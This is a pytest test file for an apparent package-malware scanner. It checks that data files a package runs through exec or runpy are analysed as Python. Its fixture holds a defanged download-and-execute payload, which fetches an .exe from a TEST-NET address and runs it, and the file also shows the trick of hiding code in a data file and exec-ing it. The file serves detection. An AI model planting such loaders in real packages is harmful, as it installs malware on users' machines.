"""Files not named like Python that the package runs as Python (features/data_code.py).

Defanged packages built in memory: TEST-NET addresses, nothing is run."""

from __future__ import annotations

import pytest

from featurepkgs import make_archive
from vetpy.features.data_code import MAX_RUN_FILES, named_members
from vetpy.features.extract import extract_features

PAYLOAD = (
    "import os, urllib.request\n"
    "p = os.path.join(os.getenv('TEMP', '/tmp'), 'u.exe')\n"
    "urllib.request.urlretrieve('http://203.0.113.7/u.exe', p)\n"
    "os.startfile(p)\n"
)


def evidence_files(files: dict[str, str | bytes], feature: str) -> set[tuple[str, int | None]]:
    found = extract_features(make_archive(files)).evidence_for(feature)
    return {(e.file.split("/", 1)[1], e.line) for e in found}


@pytest.mark.parametrize(
    "runner",
    [
        "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'data.bin')).read())\n",
        "import runpy, pathlib\nrunpy.run_path(str(pathlib.Path(__file__).parent / 'assets/data.bin'))\n",
        "code = open('pkg/data.bin').read()\nexec(compile(code, 'x', 'exec'))\n",
    ],
)
def test_a_data_file_run_as_python_is_read_as_python(runner: str) -> None:
    files: dict[str, str | bytes] = {"pkg/__init__.py": runner, "pkg/data.bin": PAYLOAD}
    assert ("pkg/data.bin", 3) in evidence_files(files, "code.download_exec")
    assert ("pkg/data.bin", 4) in evidence_files(files, "code.os_system")


@pytest.mark.parametrize(
    "files",
    [
        # named, but nothing in the package runs code
        {"pkg/__init__.py": "import os\nDATA = open(os.path.join('pkg', 'data.bin')).read()\n"},
        # a runner, but the file is never named
        {"pkg/__init__.py": "import sys\nexec(sys.argv[1])\n"},
    ],
)
def test_a_data_file_nobody_runs_is_not_python(files: dict[str, str | bytes]) -> None:
    files = {**files, "pkg/data.bin": PAYLOAD}
    assert evidence_files(files, "code.os_system") == set()


def test_a_named_file_that_is_not_code_adds_nothing() -> None:
    runner = "import json\nCFG = json.load(open('config.json'))\nvalue = eval(CFG['expr'])\n"
    config = '{"expr": "1 + 1", "names": ["print", "open"]}'
    base = extract_features(make_archive({"pkg/__init__.py": runner}))
    both = extract_features(make_archive({"pkg/__init__.py": runner, "pkg/config.json": config}))
    assert not any(e.file.endswith("config.json") for e in both.evidence)
    assert base.code_text == both.code_text


def test_named_members_are_bounded_and_skip_python_and_binaries() -> None:
    archive = make_archive(
        {
            **{f"pkg/d{i}.txt": "import os\n" for i in range(MAX_RUN_FILES + 5)},
            "pkg/x.py": "import os\n",
            "pkg/b.dat": b"import os\x00\n",
        }
    )
    text = "exec(x)\n" + "".join(f"'d{i}.txt'\n" for i in range(MAX_RUN_FILES + 5)) + "'x.py' 'b.dat'\n"
    picked = named_members(archive.members, [text])
    assert len(picked) == MAX_RUN_FILES
    assert all(m.path.endswith(".txt") for m in picked)
